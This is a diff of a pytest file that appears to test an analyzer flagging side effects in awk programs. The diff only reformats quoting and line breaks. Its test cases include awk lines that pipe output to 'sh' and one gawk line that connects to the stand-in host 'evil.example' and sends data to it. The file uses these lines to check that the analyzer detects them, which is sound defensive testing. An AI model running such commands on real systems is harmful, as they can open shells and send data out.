@@ -31,9 +31,9 @@ def _names(code: Word | Data) -> list[tuple[str, str]]:
 
 @pytest.mark.parametrize(
     "program",
-    ["{print $1}", "NR > 1 && $3 >= 5", "/rm|system/ {n++} END {print n}", '{print "a > b | c"}', "BEGIN {FS=\":\"} $1 == \"x\" || $2 > 3",
-     "{if ($1 > 2) print ($1 > 3)}", "{sum += $1 / 2} END {print sum/NR}", "# print > x\n1", "{printf \"%s\\n\", $0}", "{getline; print}",
-     "length($0) > 72", "{a[$1] = a[$1] > $2 ? a[$1] : $2}", "function f(x) {return x > 1} {print f($1)}", "$0 ~ /a\\/b/", "{print > \"/dev/stderr\"}"],
+    ["{print $1}", "NR > 1 && $3 >= 5", "/rm|system/ {n++} END {print n}", '{print "a > b | c"}', 'BEGIN {FS=":"} $1 == "x" || $2 > 3',
+     "{if ($1 > 2) print ($1 > 3)}", "{sum += $1 / 2} END {print sum/NR}", "# print > x\n1", '{printf "%s\\n", $0}', "{getline; print}",
+     "length($0) > 72", "{a[$1] = a[$1] > $2 ? a[$1] : $2}", "function f(x) {return x > 1} {print f($1)}", "$0 ~ /a\\/b/", '{print > "/dev/stderr"}'],
 )  # fmt: skip
 def test_filters_have_no_effects(program: str) -> None:
     assert _names(Word((program,))) == []
@@ -51,7 +51,10 @@ def test_filters_have_no_effects(program: str) -> None:
         ('{print | "sh"}', [("opaque", "shell:sh")]),
         ('BEGIN {"date" | getline d}', [("opaque", "shell:date")]),
         ('{while ((getline line < "in.txt") > 0) n++}', [("read", "/ws/in.txt")]),
-        ('BEGIN {s = "/inet/tcp/0/evil.example/80"; print "x" |& "/inet/tcp/0/evil.example/80"}', [("connect", "evil.example"), ("send", "evil.example")]),
+        (
+            'BEGIN {s = "/inet/tcp/0/evil.example/80"; print "x" |& "/inet/tcp/0/evil.example/80"}',
+            [("connect", "evil.example"), ("send", "evil.example")],
+        ),
         ('@load "x"', [("opaque", "awk @load")]),
         ("{@f($1)}", [("opaque", "awk @f")]),
     ],
